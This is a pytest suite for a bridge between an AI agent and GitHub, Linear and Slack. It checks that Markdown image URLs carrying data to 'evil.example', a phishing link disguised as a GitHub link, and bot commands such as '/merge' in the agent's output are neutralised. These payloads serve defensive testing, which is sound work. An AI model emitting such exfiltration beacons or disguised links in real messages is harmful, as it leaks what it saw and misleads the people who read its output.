"""An agent carries out what it saw by addresses of pictures, or misleads people by a link."""

from __future__ import annotations

import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from app.children.sandbox import Unavailable, find_bubblewrap
from tests.support.github import GithubWorld
from tests.support.linear import LinearWorld
from tests.support.slack import SlackWorld

FOUND = find_bubblewrap(os.environ["PATH"])
pytestmark = pytest.mark.skipif(
    isinstance(FOUND, Unavailable), reason=f"{FOUND}: an agent's network cannot be limited"
)
EVIL = "https://evil.example/?what-it-saw"
LISTED = "https://pictures.example/a.png"
NONE: dict[str, Any] = {"sandbox": "bubblewrap", "network": "none"}
LIST: dict[str, Any] = {
    "sandbox": "bubblewrap",
    "network": "restricted",
    "network_hosts": ["pictures.example"],
}
FALSE = "[https://github.com/acme](https://evil.example/login)"
LINES = (
    f"plan look ![]({EVIL}); think ![a]({EVIL})",
    f"say Before ![]({EVIL})",
    "write a.txt one",
    f"say First ![]({EVIL}) and ![b](<{EVIL}> 'c') and <img src='{EVIL}'> ![]({LISTED})",
    f"say {FALSE}",
    f"say {'x' * 280} ![]({EVIL}) {'y' * 270}",
)


def texts(value: object) -> Iterator[str]:
    """List the texts in what was sent."""
    match value:
        case str():
            yield value
        case dict():
            for item in value.values():
                yield from texts(item)
        case list():
            for item in value:
                yield from texts(item)


def fetched(sent: list[Any]) -> set[str]:
    """List what the platform fetches for readers of what was sent: a reader of Markdown's own."""
    made = "".join(MarkdownIt("commonmark").render(text) for text in texts(sent))
    return set(re.findall(r"<img[^>]*src=[\"']?([^\"'\s>]+)", made, re.IGNORECASE))


def on_github(folder: Path, entry: dict[str, Any], lines: tuple[str, ...]) -> list[Any]:
    """Have an agent say lines on an issue; return what GitHub got."""
    with GithubWorld(folder, entry={**entry, "mode": "free"}, speed=100) as world:
        issue = world.issue("@claude-bridge " + "\n".join(lines))
        world.wait_for(issue, "y" * 270)
        world.settled()
        return [call.data for call in world.github.calls if call.method != "GET"]


def on_linear(folder: Path, entry: dict[str, Any], lines: tuple[str, ...]) -> list[Any]:
    """Have an agent say lines in a session; return what Linear got."""
    with LinearWorld(folder, entry={**entry, "mode": "free"}) as world:
        session = world.assign(*lines)
        world.wait_end(session)
        assert session.plan
        return [call.variables for call in world.linear.calls]


@pytest.mark.parametrize("place", [on_github, on_linear])
@pytest.mark.parametrize(("entry", "live"), [(NONE, set()), (LIST, {LISTED})], ids=["none", "list"])
def test_no_picture_carries_out_what_an_agent_saw(
    tmp_path: Path,
    place: Callable[[Path, dict[str, Any], tuple[str, ...]], list[Any]],
    entry: dict[str, Any],
    live: set[str],
) -> None:
    sent = place(tmp_path, entry, LINES)

    said = "\n".join(texts(sent))
    assert "what-it-saw" in said
    assert fetched(sent) == live
    assert f"{FALSE} (`evil.example`)" in said


def test_no_picture_is_live_where_a_long_answer_is_cut(tmp_path: Path) -> None:
    """The sign that makes it code ends one comment, the picture begins the next."""
    picture = f"![]({EVIL})"
    line = f"say {'x' * (57_000 - 1)}{picture}{'y' * 270}"

    sent = on_github(tmp_path, NONE, (line,))

    assert "what-it-saw" in "\n".join(texts(sent))
    assert fetched(sent) == set()


def test_no_other_bot_on_github_obeys_what_an_agent_says(tmp_path: Path) -> None:
    sent = on_github(tmp_path, NONE, ("say /merge", "say /lgtm", f"say {'y' * 270}"))

    lines = "\n".join(texts(sent)).splitlines()
    assert any("`/merge`" in line for line in lines)
    # What was asked is shown as it was said; bots obey the beginning of a line.
    assert not [line for line in lines if line.lstrip("> ").startswith(("/merge", "/lgtm"))]


def test_no_link_on_slack_leads_elsewhere_than_it_says(tmp_path: Path) -> None:
    with SlackWorld(tmp_path) as world:
        thread = world.say(f"{world.at('claude')} say See {FALSE} there")

        answer = world.wait_answer(thread, "there")

        assert f"{FALSE} (`evil.example`)" in answer.words
